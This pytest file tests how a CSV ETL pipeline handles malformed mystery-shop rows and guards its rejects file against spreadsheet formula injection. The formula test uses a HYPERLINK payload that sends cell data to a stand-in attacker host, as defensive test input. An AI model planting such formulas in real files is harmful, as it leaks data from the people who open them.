"""Files that used to be misreported, each found by trying to break the pipeline.

A stray quote swallowed the lines after it into one rejected row reported at the wrong line; a
5,000-digit StoreID failed the whole file with Python's ValueError; a formula in a cell was copied
as it was into the rejects file, to run in the spreadsheet of whoever opened it. Now each bad line
is rejected alone, at its own line number, with its reason, and ``loaded + rejected == rows``.
"""

from __future__ import annotations

import csv
import io

import mystery_shop_etl_lambda as etl
import pytest
from etl_utils.s3_utils import FORMULA_TRIGGERS, RejectsFile, S3Object, as_text_cell
from etl_utils.transform_utils import (
    EXPECTED_HEADER,
    MAX_INTEGER,
    QUOTE_LEFT_OPEN,
    Reject,
    UnreadableLine,
    Visit,
    parse_row,
)
from lambda_fakes import BUCKET, s3_event
from test_etl_transform import GOOD, HEADER, checked, fields, records_of

UNQUOTED = GOOD.replace('"12"', "12")  # the same visit, its employee count unquoted: no quote at all


def visit_on(day: int) -> str:
    """A clean row of its own (a distinct visit: no duplicates), with no quote in it."""
    return UNQUOTED.replace("13/03/2024", f"{day:02d}/03/2024")


def outcome(data: str) -> list[tuple[int, str]]:
    """(line, "visit" or the reason) for every data row of a file."""
    return [(r.line, r.reason) if isinstance(r, Reject) else (0, "visit") for r in checked(data.encode())]


# --- one stray quote ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "stray",
    [
        '"Leeds,1487,22,Rory Gilmore,Free Standing,12,13/03/2024,10:05,10:30,3',  # the issue's: a line that opens with it
        '1487,"Leeds,22,Rory Gilmore,Free Standing,12,13/03/2024,10:05,10:30,3',  # opening a field mid-line
        '1487,Leeds,22,Rory Gilmore,Free Standing,12,13/03/2024,10:05,10:30,"3',  # in the last field
    ],
)
def test_a_stray_quote_rejects_its_own_line_and_the_lines_after_it_load(stray):
    data = "\n".join([HEADER, visit_on(1), stray, visit_on(2), visit_on(3), visit_on(4)]) + "\n"
    results = checked(data.encode())
    assert [(r.line, r.reason) for r in results if isinstance(r, Reject)] == [(3, QUOTE_LEFT_OPEN)]
    assert sum(isinstance(r, Visit) for r in results) == 4 and len(results) == 5


def test_a_stray_quote_before_academy_rows_with_quoted_counts_costs_only_its_line():
    """The academy's own rows quote the employee count: the old reader closed the stray quote there."""
    quoted = [GOOD.replace("13/03/2024", f"{day:02d}/03/2024") for day in (1, 2, 3)]
    data = "\n".join([HEADER, quoted[0], '"Leeds,1,22,Rory Gilmore,Free Standing,', quoted[1], quoted[2]])
    assert outcome(data) == [(0, "visit"), (3, QUOTE_LEFT_OPEN), (0, "visit"), (0, "visit")]


def test_the_rejected_line_keeps_its_pieces_for_the_rejects_file():
    stray = '1487,"Leeds,22,Rory Gilmore,Free Standing,12,13/03/2024,10:05,10:30,3'
    (_, pieces), *_ = records_of(f"{stray}\r\n{visit_on(1)}\n".encode())
    assert isinstance(pieces, UnreadableLine) and pieces == stray.split(",")
    assert parse_row(pieces) == QUOTE_LEFT_OPEN


@pytest.mark.parametrize("ending", ["", "\n", "\r\n"])
def test_a_stray_quote_on_the_last_line_is_rejected_however_the_file_ends(ending):
    last = UNQUOTED.replace(",3", ',"3')
    assert outcome(f"{HEADER}\n{visit_on(1)}\n{last}{ending}") == [(0, "visit"), (3, QUOTE_LEFT_OPEN)]


def test_stray_quotes_on_consecutive_lines_are_each_rejected_at_their_own_line():
    lines = [HEADER, '"a,b', '"c', visit_on(1), '1,"x', visit_on(2)]
    assert outcome("\n".join(lines)) == [
        (2, QUOTE_LEFT_OPEN),
        (3, QUOTE_LEFT_OPEN),
        (0, "visit"),
        (5, QUOTE_LEFT_OPEN),
        (0, "visit"),
    ]


def test_a_stray_quote_before_thousands_of_lines_costs_only_its_own_line():
    """It used to run until the csv module's 128 KiB field limit and fail the whole file."""
    rows = [UNQUOTED.replace("22", str(shopper)) for shopper in range(1, 5001)]  # ~350 KB, no quote
    results = checked("\n".join([HEADER, '1487,"Leeds', *rows]).encode())
    assert [(r.line, r.reason) for r in results if isinstance(r, Reject)] == [(2, QUOTE_LEFT_OPEN)]
    assert len(results) == 5001


def test_a_quoted_field_that_closes_on_its_line_is_still_read_as_csv():
    row = GOOD.replace("Leeds", '"Leeds, ""Kirkstall"" Road"')
    (visit,) = checked(f"{HEADER}\n{row}\n".encode())
    assert visit.store_name == 'Leeds, "Kirkstall" Road'


def test_a_line_beyond_the_csv_modules_field_limit_is_rejected_alone():
    huge = UNQUOTED.replace("Leeds", "L" * (csv.field_size_limit() + 1))
    results = outcome("\n".join([HEADER, visit_on(1), huge, visit_on(2)]))
    assert results[0] == results[2] == (0, "visit")
    assert results[1][0] == 3 and results[1][1].startswith("is not readable as CSV (field larger than field limit")


# --- numbers beyond any column's range ------------------------------------------------------------
@pytest.mark.parametrize(
    "column, low, high", [(0, 1, MAX_INTEGER), (2, 1, MAX_INTEGER), (5, 0, MAX_INTEGER), (9, 1, 5)]
)  # StoreID, MysteryShopperID, NumberOfStoreEmployees, OverallScore
def test_a_5000_digit_number_rejects_its_row_not_the_file(column, low, high):
    row = GOOD.split(",")
    row[column] = "1" * 5000
    reason = parse_row(fields(",".join(row)))
    assert reason == f"{EXPECTED_HEADER[column]} {'1' * 40}... (5,000 characters) is not between {low} and {high}"


def test_leading_zeros_do_not_make_a_number_too_big():
    assert parse_row(fields("0" * 4990 + GOOD)).store_id == 1487  # 4,994 digits, beyond int()'s limit
    assert (
        parse_row(fields("0" * 5000 + GOOD[4:]))
        == f"StoreID {'0' * 40}... (5,000 characters) is not between 1 and {MAX_INTEGER}"
    )


@pytest.mark.parametrize(
    "value, ok", [(str(MAX_INTEGER), True), (str(MAX_INTEGER + 1), False), ("0", False), ("1", True)]
)
def test_store_ids_are_held_to_the_integer_columns_range(value, ok):
    result = parse_row(fields(value + GOOD[4:]))
    assert isinstance(result, Visit) == ok, result


def test_a_long_bad_value_is_shown_shortened_in_the_reason():
    reason = parse_row(fields(GOOD.replace("13/03/2024", "x" * 5000)))
    assert reason == "VisitDate " + repr("x" * 40) + "... (5,000 characters) is not a dd/mm/yyyy date"


# --- formulas in the rejects file -------------------------------------------------------------------
@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(trigger):
    assert as_text_cell(f'{trigger}HYPERLINK("http://example.com")') == f'\'{trigger}HYPERLINK("http://example.com")'
    assert as_text_cell(f"  {trigger}1+1") == f"'  {trigger}1+1"  # spaces first do not hide it


@pytest.mark.parametrize("cell", ["Leeds", "12", "", "'=already text", "a=b", "Free Standing"])
def test_other_cells_are_written_as_they_came(cell):
    assert as_text_cell(cell) == cell


class _Uploads:
    def __init__(self) -> None:
        self.bodies: dict[str, bytes] = {}

    def put_object(self, Bucket, Key, Body, ContentType):
        self.bodies[Key] = Body.read()


def test_the_rejects_file_holds_no_live_formula():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rejects = RejectsFile(EXPECTED_HEADER)
    row = GOOD.replace("Leeds", formula).split(",")
    rejects.add(2, "StoreName is longer than 100 bytes", row)
    rejects.add(3, QUOTE_LEFT_OPEN, ["-2+3", "@SUM(A1)", "\tcmd", "\rx", "+1"])
    uploads = _Uploads()
    key = rejects.publish(uploads, S3Object(BUCKET, "march.csv"))
    rejects.close()
    cells = [cell for row in csv.reader(io.StringIO(uploads.bodies[key].decode())) for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_TRIGGERS)]
    assert "'" + formula.split(",")[0] in cells and "'-2+3" in cells


# --- the whole handler: every row loaded or rejected, at its own line -------------------------------
def test_a_file_with_every_trap_loads_its_good_rows_and_reports_each_bad_one(aws, fake_redshift):
    lines = [
        HEADER,
        visit_on(1),
        '1487,"Leeds,22,Rory Gilmore,Free Standing,12,13/03/2024,10:05,10:30,3',
        visit_on(2),
        "9" * 5000 + UNQUOTED[4:],
        visit_on(3).replace("Leeds", "=HYPERLINK(1)").replace("Free Standing", "Free Standing x" * 10),
        visit_on(4),
    ]
    aws.put_object(Bucket=BUCKET, Key="traps.csv", Body="\n".join(lines).encode())
    (summary,) = etl.lambda_handler(s3_event("traps.csv"), None)["files"]
    assert (summary["rows"], summary["loaded"], summary["rejected"]) == (6, 3, 3)
    body = aws.get_object(Bucket=BUCKET, Key=summary["rejects_key"])["Body"].read().decode()
    rejected = list(csv.reader(io.StringIO(body)))[1:]
    assert [row[0] for row in rejected] == ["3", "5", "6"]
    assert rejected[0][1] == QUOTE_LEFT_OPEN and rejected[1][1].startswith("StoreID 9999")
    assert rejected[2][3] == "'=HYPERLINK(1)" and "Rory Gilmore" not in repr(fake_redshift.rows)
